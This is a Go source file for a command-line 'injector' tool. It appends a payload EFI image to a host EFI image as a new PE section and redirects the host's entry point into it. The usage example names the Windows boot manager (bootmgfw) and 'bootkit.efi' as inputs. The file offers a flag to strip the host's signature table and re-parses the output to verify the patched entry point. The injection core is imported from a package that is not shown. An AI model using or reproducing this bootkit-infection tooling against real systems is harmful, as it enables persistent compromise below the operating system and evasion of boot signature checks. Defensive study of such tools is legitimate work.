// Command injector appends a boot application payload to a host EFI image as
// a new section and redirects the host entry point into it.
//
//	injector bootmgfw.original bootkit.efi bootmgfw.injected
package main

import (
	"bytes"
	"fmt"
	"os"
	"strings"

	"bootpatch/imageio"
	"bootpatch/inject"

	"github.com/pkg/errors"
	sfpe "github.com/saferwall/pe"
	"github.com/sirupsen/logrus"
	"github.com/spf13/cobra"
	"github.com/spf13/viper"
)

func main() {
	if err := newRootCmd().Execute(); err != nil {
		os.Exit(1)
	}
}

func newRootCmd() *cobra.Command {
	var (
		v   = viper.New()
		log = logrus.New()
	)
	cmd := &cobra.Command{
		Use:           "injector <host> <payload> <output>",
		Short:         "Append a payload image to a host image as a new section",
		Args:          cobra.ExactArgs(3),
		PersistentPreRunE: func(cmd *cobra.Command, args []string) error {
			// arguments parsed; later failures are not usage errors
			cmd.SilenceUsage = true
			log.SetOutput(cmd.ErrOrStderr())
			log.SetFormatter(&logrus.TextFormatter{DisableTimestamp: true})
			lvl, err := logrus.ParseLevel(v.GetString("log-level"))
			if err != nil {
				return err
			}
			log.SetLevel(lvl)
			return nil
		},
		RunE: func(cmd *cobra.Command, args []string) error {
			err := run(log, v, args[0], args[1], args[2])
			if err != nil {
				log.WithError(err).Error("injection failed")
				cmd.SilenceErrors = true
				return err
			}
			fmt.Fprintln(cmd.OutOrStdout(), "injected", args[2])
			return nil
		},
	}

	flags := cmd.Flags()
	flags.String("section-name", inject.DefaultSectionName, "Name of the appended section")
	flags.Bool("checksum", false, "Recompute the PE checksum")
	flags.Bool("strip-signature", false, "Drop the host's certificate table")
	flags.Bool("verify", true, "Re-parse the output image after writing it")
	flags.String("log-level", "info", "Log level")
	v.BindPFlags(flags)
	v.SetEnvPrefix("bootpatch")
	v.SetEnvKeyReplacer(strings.NewReplacer("-", "_"))
	v.AutomaticEnv()
	return cmd
}

func run(log logrus.FieldLogger, v *viper.Viper, hostPath, payloadPath, outPath string) error {
	host, err := imageio.ReadFile(hostPath)
	if err != nil {
		return errors.Wrap(err, "read host")
	}
	payload, err := imageio.ReadFile(payloadPath)
	if err != nil {
		return errors.Wrap(err, "read payload")
	}

	out, res, err := inject.AppendSection(host, payload, inject.Options{
		SectionName:    v.GetString("section-name"),
		UpdateChecksum: v.GetBool("checksum"),
		StripSignature: v.GetBool("strip-signature"),
	})
	if err != nil {
		return errors.Wrap(err, "inject")
	}
	log.WithFields(logrus.Fields{
		"section": v.GetString("section-name"),
		"va":      fmt.Sprintf("%#x", res.Section.VirtualAddress),
		"base":    fmt.Sprintf("%#x", res.PayloadBase),
		"entry":   fmt.Sprintf("%#x", res.EntryPoint),
	}).Info("section appended")

	if v.GetBool("verify") {
		if err := verify(out, v.GetString("section-name"), res.EntryPoint); err != nil {
			return errors.Wrap(err, "verify")
		}
		log.Debug("output verified")
	}

	fi, err := os.Stat(hostPath)
	if err != nil {
		return errors.Wrap(err, "write output")
	}
	if err := imageio.WriteFile(outPath, out, fi.Mode().Perm()); err != nil {
		return errors.Wrap(err, "write output")
	}
	return nil
}

// verify parses the output with an independent PE parser and checks the new
// section and entry point.
func verify(data []byte, section string, entry uint32) error {
	// not closed: Close unmaps the data it was given
	f, err := sfpe.NewBytes(data, &sfpe.Options{Fast: true})
	if err != nil {
		return err
	}
	if err := f.Parse(); err != nil {
		return err
	}

	if len(f.Sections) == 0 {
		return errors.New("no sections")
	}
	last := f.Sections[len(f.Sections)-1]
	if name := string(bytes.TrimRight(last.Header.Name[:], "\x00")); name != section {
		return errors.Errorf("last section is %q, want %q", name, section)
	}
	oh, ok := f.NtHeader.OptionalHeader.(sfpe.ImageOptionalHeader64)
	if !ok {
		return errors.New("not a PE32+ image")
	}
	if oh.AddressOfEntryPoint != entry {
		return errors.Errorf("entry point %#x, want %#x", oh.AddressOfEntryPoint, entry)
	}
	return nil
}
